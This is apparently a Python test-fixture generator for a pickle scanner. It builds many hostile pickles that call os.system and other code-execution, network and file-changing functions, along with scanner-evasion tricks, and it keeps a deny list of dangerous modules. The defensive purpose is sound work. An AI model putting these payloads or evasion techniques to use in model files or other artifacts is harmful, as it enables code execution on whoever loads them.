"""Each technique that the tests of picklescan, fickling and modelscan describe, made anew.

They look for pickles that run code; here each is a file that must be refused, whatever it names and
however it hides that. `disguises` has the containers. Run as a script it prints how many there are.
"""

from __future__ import annotations

import pickle
import struct

from disguises import COMMAND, GOOD, SYSTEM, containers
from opcodes import call, get, named, pickled, put, stack_named, text, tupled

#: Modules, and what in them runs code, loads more of it, reaches the network or changes files.
DANGEROUS = {
    "os": "system popen execv execvp spawnv posix_spawn fork kill remove rename putenv",
    "posix": "system popen execv fork",
    "nt": "system popen",
    "subprocess": "Popen run call check_call check_output getoutput",
    "commands": "getoutput getstatusoutput",
    "builtins": "eval exec compile open getattr setattr delattr __import__ breakpoint input map"
    " filter type vars globals locals apply print object",
    "__builtin__": "eval exec execfile compile open file getattr __import__ apply reload globals"
    " dict",
    "runpy": "run_path run_module _run_code",
    "operator": "attrgetter itemgetter methodcaller call",
    "functools": "partial reduce",
    "itertools": "starmap",
    "importlib": "import_module reload __import__",
    "importlib.util": "find_spec module_from_spec",
    "imp": "load_source",
    "pkgutil": "resolve_name",
    "zipimport": "zipimporter",
    "pty": "spawn",
    "socket": "socket create_connection",
    "ssl": "get_server_certificate",
    "http.client": "HTTPSConnection",
    "httplib": "HTTPSConnection",
    "urllib.request": "urlopen urlretrieve",
    "urllib": "urlopen",
    "requests.api": "get post",
    "aiohttp.client": "ClientSession",
    "ftplib": "FTP",
    "smtplib": "SMTP",
    "telnetlib": "Telnet",
    "webbrowser": "open open_new get",
    "pip": "main",
    "pip._internal.cli.main": "main",
    "ensurepip": "_run_pip bootstrap",
    "venv": "create",
    "asyncio": "create_subprocess_shell run",
    "asyncio.unix_events": "_UnixSubprocessTransport._start",
    "multiprocessing.util": "spawnv_passfds",
    "multiprocessing": "Process",
    "concurrent.futures": "ProcessPoolExecutor",
    "threading": "Thread",
    "_posixsubprocess": "fork_exec",
    "bdb": "Bdb.run Bdb",
    "pdb": "run runeval",
    "cProfile": "run runctx",
    "profile": "Profile.run Profile.runctx run",
    "trace": "Trace.run Trace.runctx",
    "timeit": "timeit repeat main",
    "doctest": "debug_script testfile",
    "code": "InteractiveInterpreter InteractiveInterpreter.runcode interact InteractiveConsole",
    "codeop": "compile_command",
    "pydoc": "locate pipepager tempfilepager",
    "idlelib.autocomplete": "AutoComplete.get_entity AutoComplete.fetch_completions",
    "idlelib.calltip": "get_entity Calltip.fetch_tip",
    "idlelib.debugobj": "ObjectTreeItem.SetText",
    "idlelib.pyshell": "ModifiedInterpreter.runcode ModifiedInterpreter.runcommand",
    "idlelib.run": "Executive.runcode",
    "lib2to3.pgen2.grammar": "Grammar.loads",
    "lib2to3.pgen2.pgen": "ParserGenerator.make_label",
    "mailcap": "findmatch",
    "distutils.file_util": "write_file copy_file",
    "distutils.spawn": "spawn",
    "shutil": "rmtree move copyfile",
    "pathlib": "Path.write_text Path.unlink PosixPath",
    "io": "FileIO open",
    "_io": "FileIO",
    "codecs": "open",
    "tempfile": "NamedTemporaryFile",
    "glob": "glob",
    "sys": "exit modules settrace path",
    "gc": "get_objects",
    "ctypes": "CDLL cdll WinDLL PyDLL",
    "ctypes.util": "find_library",
    "_ctypes": "dlopen",
    "marshal": "loads load",
    "types": "FunctionType CodeType",
    "pickle": "loads load Unpickler",
    "_pickle": "loads load Unpickler",
    "cPickle": "loads",
    "shelve": "open",
    "dbm": "open",
    "logging.config": "listen fileConfig dictConfig",
    "sqlite3": "connect",
    "signal": "raise_signal",
    "site": "addpackage",
    "test.support.script_helper": "assert_python_ok",
    "unittest.mock": "_importer",
    "uuid": "_get_command_stdout",
    "xmlrpc.client": "ServerProxy",
    "antigravity": "geohash",
    "this": "s",
    "numpy": "load loadtxt genfromtxt save fromfile memmap poly1d __builtins__ ndarray",
    "numpy.core.multiarray": "_reconstruct fromfile",
    "numpy._core.multiarray": "_reconstruct",
    "numpy.testing._private.utils": "runstring",
    "numpy.f2py.crackfortran": "getlincoef _eval_length",
    "numpy.f2py": "compile",
    "numpy.distutils.exec_command": "exec_command",
    "numpy.ctypeslib": "load_library",
    "numpy.lib.format": "read_array",
    "joblib": "load",
    "joblib.numpy_pickle": "load NumpyArrayWrapper",
    "cloudpickle": "loads",
    "cloudpickle.cloudpickle": "_builtin_type subimport",
    "dill": "loads",
    "dill._dill": "_create_code _load_type",
    "pandas": "read_pickle eval",
    "pandas.io.pickle": "read_pickle",
    "sklearn.utils": "_joblib.load",
    "tensorflow.io": "read_file",
    "keras.models": "load_model model_from_config",
    "torch": "load save hub.load FloatStorage",
    "torch.serialization": "load",
    "torch.hub": "load",
    "torch.storage": "_load_from_bytes",
    "torch._utils": "_rebuild_tensor_v2 _rebuild_parameter",
    "torch.jit": "load",
    "torch.jit.unsupported_tensor_ops": "execWrapper",
    "torch.utils.bottleneck.__main__": "run_cprofile run_autograd_prof",
    "torch.utils.collect_env": "run run_and_read_all",
    "torch.utils.cpp_extension": "load_inline",
    "torch.utils._config_module": "ConfigModule.load_config",
    "torch.utils.data.datapipes.utils.decoder": "basichandlers",
    "torch._dynamo.guards": "GuardBuilder.get",
    "torch._inductor.codecache": "compile_file",
    "torch.fx.experimental.symbolic_shapes": "ShapeEnv.evaluate_guards_expression",
    "torch.distributed.rpc": "_deserialize",
    "copyreg": "_reconstructor __newobj__ __newobj_ex__ add_extension",
    "copy_reg": "_reconstructor",
    "collections": "defaultdict Counter namedtuple OrderedDict.__reduce__ _sys",
    "tripwire": "anything",
    "__main__": "__builtins__",
}


def _hidden_names(module: str, name: str) -> bytes:
    """STACK_GLOBAL of texts that stand far away in the memo, between harmless ones."""
    body = text(module) + put(1) + text(name) + put(2) + text("collections") + put(3)
    return body + text("OrderedDict") + put(4) + b"t" + get(1) + get(2) + b"\x93"


def _forms(module: str, name: str) -> dict[str, bytes]:
    """A global as each opcode names and calls it."""
    line = f"{module}\n{name}\n".encode()
    quoted = f"(S'{COMMAND}'\n".encode()
    memo = f"V{module}\np0\nV{name}\np1\n(dp2\n".encode()
    short = b"".join(b"\x8c" + bytes([len(one)]) + one.encode() + b"\x94" for one in (module, name))
    return {
        "named alone": pickled(b"c" + line),
        "GLOBAL and REDUCE": pickled(b"c" + line + text(COMMAND) + b"\x85R"),
        "protocol 0": pickled(b"c" + line + quoted + b"tR", 0),
        "INST": pickled(quoted + b"i" + line, 0),
        "OBJ": pickled(b"(c" + line + text(COMMAND) + b"o", 1),
        "NEWOBJ": pickled(b"c" + line + text(COMMAND) + b"\x85\x81"),
        "NEWOBJ_EX": pickled(short + b"\x93)}\x92", 4),
        "STACK_GLOBAL": pickled(short + b"\x93" + text(COMMAND) + b"\x85R", 4),
        "STACK_GLOBAL of the memo": pickled(b"(" + _hidden_names(module, name) + b")R", 4),
        "STACK_GLOBAL of lines": pickled(memo + b"g0\ng1\n\x93(V" + COMMAND.encode() + b"\ntR", 0),
        "key of a dictionary": pickled(b"}c" + line + b"Ns"),
        "state of BUILD": pickled(b"}c" + line + b"b"),
    }


#: Of Python, collections and numpy: plain data names them, and nothing comes of it.
_DATA = {"dict", "defaultdict", "Counter", "ndarray", "_reconstruct", "_frombuffer"}


def globals_named() -> dict[str, bytes]:
    """Every dangerous global in every form."""
    return {
        f"{module} {name}, {form}": data
        for module, names in DANGEROUS.items()
        for name in names.split()
        for form, data in _forms(module, name).items()
        if form != "named alone" or name not in _DATA
    }


ORDERED = named("collections.OrderedDict")
_BENIGN = pickle.dumps(["a", "b"], 2)


def _chain(*names: str) -> bytes:
    """REDUCE of each upon what the one before returned."""
    body = text(COMMAND)
    for name in names:
        body = named(name) + body + b"\x85R"
    return body


def opcode_tricks() -> dict[str, bytes]:
    """How a pickle hides what it names or does."""
    found = {
        "attrgetter of an imported module": pickled(
            call("operator.attrgetter", "system") + call("builtins.__import__", "os") + b"\x85R"
        ),
        "getattr of import_module": pickled(
            named("builtins.getattr")
            + tupled(call("importlib.import_module", "os"), text("system"))
            + b"R"
        ),
        "methodcaller on a located module": pickled(
            call("operator.methodcaller", "system", COMMAND) + call("pydoc.locate", "os") + b"\x85R"
        ),
        "partial of os.system": pickled(
            named("functools.partial") + tupled(named("os.system"), text(COMMAND)) + b"R)R"
        ),
        "map over commands": pickled(
            named("builtins.map") + tupled(named("os.system"), b"](" + text(COMMAND) + b"e") + b"R"
        ),
        "marshal and FunctionType": pickled(
            named("types.FunctionType")
            + tupled(named("marshal.loads") + b"C\x04code\x85R", b"}")
            + b"R)R",
            3,
        ),
        "compile, then eval": pickled(_chain("builtins.compile", "builtins.eval")),
        "eval of the builtins of numpy": pickled(
            named("numpy.__builtins__") + put(1) + named("numpy.poly1d") + get(1) + b"\x85R"
        ),
        "globals, then get": pickled(named("__builtin__.globals") + b")R" + put(1) + get(1) + b"b"),
        "a name built of letters": pickled(
            call("operator.itemgetter", "x") + text("metsyso") + b"\x85R" + text("system") + b"\x93"
        ),
        "a module replaced in sys.modules": pickled(
            named("sys.modules") + put(1) + text("sys") + get(1) + b"s" + named("sys.get")
        ),
        "BUILD with __setstate__": pickled(
            ORDERED
            + b")R}"
            + text("__setstate__")
            + named("os.system")
            + b"sb"
            + text(COMMAND)
            + b"b"
        ),
        "BUILD with slots": pickled(ORDERED + b")RN}" + text("x") + b"Ns\x86b"),
        "BUILD with __class__": pickled(ORDERED + b")R}" + text("__class__") + b"Nsb"),
        "__reduce_ex__ by name": pickled(
            named("collections.OrderedDict.__reduce_ex__") + b"K\x02\x85R"
        ),
        "POP after a call": pickled(call("os.system", COMMAND) + b"0N"),
        "POP_MARK after a call": pickled(b"(" + call("os.system", COMMAND) + b"1N"),
        "DUP": pickled(b"]2e"),
        "DUP of a call": pickled(named("os.system") + b"2"),
        "laughs by DUP": pickled(b"(((" + (text("x") + b"22222222l") * 3, 1),
        "memo entry that is overwritten": pickled(
            text("collections") + put(1) + text("os") + put(1) + get(1) + text("system") + b"\x93",
            4,
        ),
        "memo entry that was never put": pickled(get(7) + text("system") + b"\x93", 4),
        "memo index below zero": pickled(b"(Vx\np-1\nt", 0),
        "memo index of many digits": pickled(b"Np" + b"9" * 5000 + b"\n", 0),
        "memo index in other digits": pickled(b"Np\xd9\xa3\n", 0),
        "memo index with a space": pickled(b"Np 1\n", 0),
        "memo entry that is a text of another kind": pickled(
            b"K\x07" + put(1) + get(1) + get(1) + b"\x93"
        ),
        "module that is bytes": pickled(b"C\x02os" + text("system") + b"\x93", 4),
        "name that is bytes": pickled(text("os") + b"C\x06system\x93", 4),
        "module that is a Python 2 text": pickled(b"U\x02osU\x06system\x93", 4),
        "module that is encoded": pickled(
            named("_codecs.encode")
            + tupled(text("os"), text("latin1"))
            + b"R"
            + text("system")
            + b"\x93",
            4,
        ),
        "module that was decoded": pickled(call("_codecs.decode", "b3M=", "base64")),
        "codec that runs": pickled(call("_codecs.encode", "x", "unicode_escape")),
        "codec in capitals": pickled(call("_codecs.encode", "x", "LATIN1")),
        "lookup of an error handler": pickled(call("_codecs.encode", "x", "latin1", "ignore")),
        "newline in a module": pickled(text("collections\nOrderedDict") + text("x") + b"\x93", 4),
        "newline in a name": pickled(
            text("collections") + text("OrderedDict\nos\nsystem") + b"\x93", 4
        ),
        "carriage returns in GLOBAL": pickled(b"ccollections\r\nOrderedDict\r\n"),
        "spaces in GLOBAL": pickled(b"ccollections OrderedDict\n\n"),
        "space before a module": pickled(b"c collections\nOrderedDict\n"),
        "null in a module": pickled(b"ccollections\0\nOrderedDict\n"),
        "empty module": pickled(b"c\ncollections.OrderedDict\n"),
        "dot moved to the name": pickled(b"cnumpy\ncore.multiarray.scalar\n"),
        "dot moved to the module": pickled(b"cnumpy.core.multiarray.scalar\n\n"),
        "dotted name of a known module": pickled(b"c_codecs\nencode.__self__\n"),
        "dunder of a known class": pickled(b"cbuiltins\nset.__class__\n"),
        "other capitals": pickled(b"cCollections\nOrderedDict\n"),
        "Cyrillic letters": pickled("ccollecti\u043ens\nOrderedDict\n".encode()),
        "full-width letters": pickled("cbuiltins\n\uff53\uff45\uff54\n".encode()),
        "ligature that normalises": pickled("c\ufb01le\nset\n".encode()),
        "soft hyphen": pickled("cbuil\u00adtins\nset\n".encode()),
        "right-to-left override": pickled("cos\u202e\nsystem\n".encode()),
        "module that is not UTF-8": pickled(b"cos\xff\nsystem\n"),
        "name that is not UTF-8": pickled(b"cmod\n\xf8\n"),
        "surrogates in a name": pickled(b"X\x03\0\0\0\xed\xb3\xbf" + text("x") + b"\x93", 4),
        "escapes in a module": pickled(b"V\\u006fs\nVsystem\n\x93", 0),
        "escapes in a Python 2 text": pickled(b"S'\\x6fs'\nS'system'\n\x93", 0),
        "text with an odd quote": pickled(b"S'os\n", 0),
        "text with an octal escape": pickled(b"S'\\157s'\n", 0),
        "text without quotes": pickled(b"Sos\n", 0),
        "integer in hexadecimal": pickled(b"(I0x10\nt", 0),
        "integer with underscores": pickled(b"(I1_0\nt", 0),
        "integer in other digits": pickled("(I\u0661\nt".encode(), 0),
        "integer with a plus": pickled(b"(I+1\nt", 0),
        "integer of a million digits": pickled(b"(L" + b"9" * 1_000_000 + b"L\nt", 0),
        "float in hexadecimal": pickled(b"(F0x1p3\nt", 0),
        "float with underscores": pickled(b"(F1_0.0\nt", 0),
        "float of a million digits": pickled(b"(F0." + b"9" * 1_000_000 + b"\nt", 0),
        "float that is code": pickled(b"(F__import__('os')\nt", 0),
        "INST of a known class": pickled(b"(icollections\nOrderedDict\n", 0),
        "INST without a mark": pickled(b"ios\nsystem\n", 0),
        "OBJ without a class": pickled(b"(" + text(COMMAND) + b"o"),
        "NEWOBJ of set": pickled(named("builtins.set") + b")\x81"),
        "NEWOBJ_EX of dict": pickled(named("builtins.dict") + b")}\x92", 4),
        "REDUCE of set with two lists": pickled(named("builtins.set") + b"]]\x86R"),
        "REDUCE of set with a tuple": pickled(named("builtins.set") + b")\x85R"),
        "REDUCE of complex with texts": pickled(call("builtins.complex", "1", "2")),
        "REDUCE of bytes with a size": pickled(named("builtins.bytes") + b"J\xff\xff\xff\x7f\x85R"),
        "REDUCE of bytearray with a size": pickled(
            named("builtins.bytearray") + b"J\xff\xff\xff\x7f\x85R"
        ),
        "REDUCE of OrderedDict with pairs": pickled(ORDERED + b"]]\x85R"),
        "persistent storage": pickled(
            tupled(text("storage"), named("torch.FloatStorage"), text("0"), text("cpu"), b"K\x01")
            + b"Q"
        ),
        "persistent text": pickled(b"Pos.system\n", 0),
        "persistent path": pickled(text("../../etc/passwd") + b"Q"),
        "out-of-band buffer": pickled(b"\x97\x98", 5),
        "duplicate PROTO": b"\x80\x02" + SYSTEM,
        "PROTO after a value": b"N\x80\x02.",
        "PROTO of other versions": b"\x80\x02\x80\x04" + SYSTEM[2:],
        "PROTO 0": b"\x80\x00" + SYSTEM[2:],
        "PROTO 1": b"\x80\x01" + SYSTEM[2:],
        "PROTO 99": b"\x80\x63" + SYSTEM[2:],
        "opcodes above the protocol": b"\x80\x02" + stack_named("os.system") + b")R.",
        "frame that ends within the payload": b"\x80\x04\x95" + struct.pack("<Q", 3) + SYSTEM[2:],
        "frame in a frame": b"\x80\x04\x95"
        + struct.pack("<Q", 99)
        + b"\x95"
        + bytes(8)
        + SYSTEM[2:],
        "empty frames": b"\x80\x04" + (b"\x95" + bytes(8)) * 1000 + SYSTEM[2:],
        "payload, then an unknown opcode": SYSTEM[:-1] + b"\xff.",
        "payload, then cut short": SYSTEM[:-1],
        "payload, then a missing mark": SYSTEM[:-1] + b"t.",
        "payload, then blanks": SYSTEM + b"\n\n\t",
        "payload behind a harmless pickle": _BENIGN + SYSTEM,
        "payload behind the release": GOOD + SYSTEM,
        "payload before the release": SYSTEM + GOOD,
        "payload far behind": _BENIGN + bytes(1 << 17) + SYSTEM,
        "payload behind STOP, within a frame": b"\x80\x04\x95"
        + struct.pack("<Q", 99)
        + b"]."
        + SYSTEM,
        "pickle in a text": pickled(
            named("pickle.loads") + text(SYSTEM.decode("latin-1")) + b"\x85R"
        ),
        "pickle in bytes": pickled(
            named("_pickle.loads") + b"C" + bytes([len(SYSTEM)]) + SYSTEM + b"\x85R", 3
        ),
        "payload in a state": pickled(
            b"}(" + text("arch_config") + call("os.system", COMMAND) + b"u"
        ),
        "payload as a key": pickled(b"}" + call("os.system", COMMAND) + b"Ns"),
        "payload in a tuple in a list": pickled(b"](" + tupled(call("os.system", COMMAND)) + b"e"),
    }
    for code in (1, 2, 255, 65_535, 1 << 31):
        for opcode, form in ((b"\x82", "<B"), (b"\x83", "<H"), (b"\x84", "<I")):
            if code < 1 << 8 * struct.calcsize(form):
                name = f"extension {code} in {struct.calcsize(form)} bytes"
                found[name] = pickled(opcode + struct.pack(form, code) + b")R")
    return found


def techniques() -> dict[str, bytes]:
    """All of them, by name."""
    return {**globals_named(), **opcode_tricks(), **containers()}


def count() -> str:
    """How many there are, in words."""
    kinds = (globals_named(), opcode_tricks(), containers())
    names = sum(len(one.split()) for one in DANGEROUS.values())
    of_globals, of_opcodes, of_containers = map(len, kinds)
    return (
        f"{sum(map(len, kinds)):,} hostile files: {names} globals in {of_globals // names} forms"
        f" ({of_globals:,}), {of_opcodes} tricks of opcodes, {of_containers} containers"
    )


if __name__ == "__main__":
    print(count())
